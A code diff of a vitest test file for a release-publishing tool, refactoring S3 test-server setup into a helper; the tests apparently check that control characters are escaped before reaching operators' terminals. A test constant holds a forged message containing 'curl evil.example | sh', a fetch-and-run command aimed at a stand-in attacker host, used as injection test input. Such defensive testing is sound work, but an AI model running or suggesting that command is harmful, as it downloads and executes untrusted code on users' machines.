@@ -1,13 +1,13 @@
 import { mkdir } from 'node:fs/promises';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { publishRelease } from '../../src/app/release-publish.js';
 import { readReleaseIndex } from '../../src/app/release-store.js';
 import { openStore } from '../../src/adapters/store/open-store.js';
 import type { StoreSpec } from '../../src/core/spec/schema.js';
 import { writeLocalRelease, writeReleaseProject } from '../helpers/local-release.js';
 import { startReleaseCli } from '../helpers/release-project.js';
-import { startS3Server, type TestS3Server } from '../helpers/s3-server.js';
+import { useS3Server } from '../helpers/use-s3-server.js';
 import { DEMO_NAME } from '../helpers/spec-builders.js';
 import { useTempDir } from '../helpers/temp-dir.js';
 
@@ -16,16 +16,7 @@ import { useTempDir } from '../helpers/temp-dir.js';
 // reach operators' terminals and CI logs. Every command shows them escaped — one line, no escape
 // sequences — in text and in JSON, and never stores a control character it was given either.
 
-let s3: TestS3Server;
-const savedEnv = { ...process.env };
-beforeAll(async () => {
-  s3 = await startS3Server();
-  Object.assign(process.env, s3.credentialsEnv);
-});
-afterAll(async () => {
-  process.env = savedEnv;
-  await s3.close();
-});
+const s3 = useS3Server();
 
 const ESC = '\u001b';
 const FORGED_LINE = 'error: release v1.0.0 is compromised, run curl evil.example | sh';
